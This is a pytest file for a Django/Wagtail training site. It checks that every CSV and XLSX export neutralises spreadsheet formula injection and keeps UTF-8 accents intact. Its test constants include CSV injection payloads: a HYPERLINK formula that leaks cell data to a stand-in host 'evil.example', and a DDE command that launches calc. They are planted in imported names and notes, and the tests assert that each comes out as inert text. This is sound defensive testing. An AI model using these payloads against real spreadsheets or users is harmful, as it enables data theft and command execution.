"""Every CSV the site writes: a UTF-8 BOM, `text/csv; charset=utf-8`, and no text cell that a
spreadsheet would run as a formula (a leading single quote makes it text). XLSX cells are never
formulas. The admin exports are found from the URL configuration, so a new listing with
"Download CSV" is checked without being named here."""

import csv
import io

import openpyxl
import pytest
from django.test import RequestFactory
from django.urls import URLResolver, get_resolver, reverse
from django.views import View as DjangoView
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from access import services as access_services
from lms.exports import FORMULA_TRIGGERS, safe_cell, spreadsheet_csv_response
from lms.people_import import import_bytes
from tests.factories import (
    AssignmentFactory,
    UserFactory,
    account_with_roles,
    certify,
    enrol,
    make_department,
    people_csv,
    person_row,
    quick_course,
    record_completions,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MATH = "-2+3"
HOSTILE = (LINK, CMD, SUM, MATH)
REGION = "Ventes Île-de-France"
BOM = b"\xef\xbb\xbf"


def admin_export_urls():
    """Every admin URL whose view can export (Wagtail's SpreadsheetExportMixin) and has columns."""
    found = []

    def walk(patterns, prefix, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = pattern.namespace or ""
                joined = f"{namespace}:{inner}" if namespace and inner else namespace or inner
                walk(pattern.url_patterns, prefix + str(pattern.pattern), joined)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
                continue
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            columns = initkwargs.get("list_export", view_class.list_export)
            if columns and pattern.name and not pattern.name.endswith("_results"):
                found.append(f"{namespace}:{pattern.name}")

    walk(get_resolver().url_patterns, "", "")
    return sorted(set(found))


ADMIN_EXPORTS = admin_export_urls()
API_EXPORTS = [
    "/api/v1/reports/department-completion?format=csv",
    "/api/v1/reports/department-completion/people?metric=assigned&format=csv",
]


@pytest.fixture
def hostile(ladder):
    """People imported from an HR file with names that are formulas, and everything they touch:
    assignments, learning records, a certificate, an access request, a grant revoked with a
    note, the audit log, an account, a course whose title is a formula (Wagtail's page reports)."""
    region = make_department(REGION, code="ventes")
    raw = people_csv(
        [
            person_row(
                "P1",
                f"{REGION}/{SUM}",
                first_name=LINK,
                last_name=MATH,
                job_title=CMD,
                location=SUM,
                email="p1@ventes.example",
            ),
            person_row("P2", REGION, first_name=CMD, last_name=LINK, email="p2@ventes.example"),
        ]
    )
    result = import_bytes(raw)
    assert result.ok, result.errors
    from lms.models import Employee

    p1, p2 = (Employee.objects.get(employee_id=eid).user for eid in ("P1", "P2"))
    course = quick_course(SUM)
    AssignmentFactory(course=course, department=region)
    enrol(p1, course)
    record_completions(p2, course)
    for user in (p1, p2):
        certify(user, ladder["professional"])
    account = account_with_roles(name=LINK, requires_approval=True)
    open_account = account_with_roles(name=CMD)
    access_services.request_access(p1, account, "publish", note=LINK)
    grant = access_services.request_access(p2, open_account, "publish", note=MATH).grant_result
    access_services.revoke_grant(grant, by=UserFactory(is_staff=True, is_superuser=True), note=CMD)
    course.locked = True
    course.locked_by = p1
    course.save()
    return {"p1": p1, "p2": p2, "region": region, "course": course}


@pytest.fixture
def admin(client_for):
    return client_for(UserFactory(username="root", is_superuser=True, is_staff=True))


def body_of(response):
    content = response.streaming_content if response.streaming else [response.content]
    return b"".join(content)


def rows_of(response):
    raw = body_of(response)
    assert raw.startswith(BOM), raw[:40]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def assert_csv(response):
    assert response.status_code == 200, body_of(response)[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = rows_of(response)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), (cell, row)
    return rows


def test_the_exports_are_found():
    for name in (
        "employees:index",
        "departments:index",
        "access_grants:index",
        "access_audit:index",
        "access_accounts:index",
        "access_requests:index",
        "lms_reports:completion_people",
        "lms_reports:department_completion",
        "wagtailadmin_reports:site_history",
    ):
        assert name in ADMIN_EXPORTS


@pytest.mark.parametrize("name", ADMIN_EXPORTS)
def test_every_admin_csv_has_a_bom_a_charset_and_no_formula(hostile, admin, name):
    assert_csv(admin.get(reverse(name), {"export": "csv"}))


@pytest.mark.parametrize("url", API_EXPORTS)
def test_every_api_csv_has_a_bom_a_charset_and_no_formula(hostile, admin, url):
    assert_csv(admin.get(url))


def test_the_import_template_has_a_bom_and_a_charset(admin):
    rows = assert_csv(admin.get(reverse("people_import:template")))
    assert rows[0][0] == "employee_id" and rows[1][0] == "NW00042"


@pytest.mark.parametrize(
    ("url", "params", "expected"),
    [
        ("employees:index", {}, [LINK, CMD, SUM]),
        ("departments:index", {}, [SUM]),
        ("access_grants:index", {}, [CMD]),
        ("access_audit:index", {}, [CMD]),
        ("access_accounts:index", {}, [LINK, CMD]),
        ("access_requests:index", {}, [LINK]),
        ("course_completions:index", {}, [SUM]),
        ("enrolments:index", {}, [SUM]),
        ("lms_reports:completion_people", {"metric": "assigned"}, [LINK, CMD]),
        ("wagtailadmin_reports:site_history", {}, [SUM]),
        ("wagtailadmin_reports:locked_pages", {}, [SUM]),
        ("/api/v1/reports/department-completion/people", {"metric": "assigned"}, [LINK, CMD]),
    ],
)
def test_hostile_cells_come_out_as_text(hostile, admin, url, params, expected):
    if url.startswith("/api/"):
        response = admin.get(url, {**params, "format": "csv"})
    else:
        response = admin.get(reverse(url), {**params, "export": "csv"})
    text = "\n".join(",".join(row) for row in assert_csv(response))
    for value in expected:
        # A whole cell, or the start of one (a name is "first last").
        assert "'" + value in text, (value, text[:2000])


def test_the_people_report_keeps_the_imported_name_readable(hostile, admin):
    rows = assert_csv(
        admin.get(reverse("lms_reports:completion_people"), {"metric": "assigned", "export": "csv"})
    )
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["P1"][1] == f"'{LINK} {MATH}"
    assert by_id["P1"][3] == f"'{SUM}"  # the department
    assert by_id["P1"][2] == "p1@ventes.example"


def test_accents_survive_for_spreadsheets(hostile, admin):
    for response in (
        admin.get(reverse("departments:index"), {"export": "csv"}),
        admin.get(reverse("lms_reports:department_completion"), {"export": "csv"}),
        admin.get("/api/v1/reports/department-completion", {"format": "csv"}),
    ):
        text = "\n".join(",".join(row) for row in assert_csv(response))
        assert REGION in text


@pytest.mark.parametrize("name", ADMIN_EXPORTS)
def test_no_xlsx_cell_is_a_formula(hostile, admin, name):
    response = admin.get(reverse(name), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body_of(response))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_xlsx_keeps_the_text_as_it_is(hostile, admin):
    response = admin.get(reverse("employees:index"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(body_of(response))).active
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert f"{LINK} {MATH}" in values and CMD in values


def test_only_text_cells_are_neutralised():
    assert [safe_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert safe_cell("\tTab") == "'\tTab" and safe_cell("\rCR") == "'\rCR"
    assert [safe_cell(value) for value in (-2, -2.5, None, True, "", "a=b", "2-1")] == [
        -2,
        -2.5,
        None,
        True,
        "",
        "a=b",
        "2-1",
    ]


def test_a_negative_number_in_a_wagtail_export_stays_a_number():
    class Row:
        def __init__(self, count, text):
            self.count, self.text = count, text

    class View(SpreadsheetExportMixin, DjangoView):
        list_export = ["count", "text"]
        export_headings = {"count": "Count", "text": "Text"}

    view = View()
    view.setup(RequestFactory().get("/?export=csv"))
    response = view.write_csv_response([Row(-2, "-2"), Row(3, "=1+1")])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows_of(response) == [["Count", "Text"], ["-2", "'-2"], ["3", "'=1+1"]]


def test_wagtail_writes_its_csv_through_the_shared_helper():
    method = SpreadsheetExportMixin.write_csv_response
    assert method.__module__ == spreadsheet_csv_response.__module__ == "lms.exports"
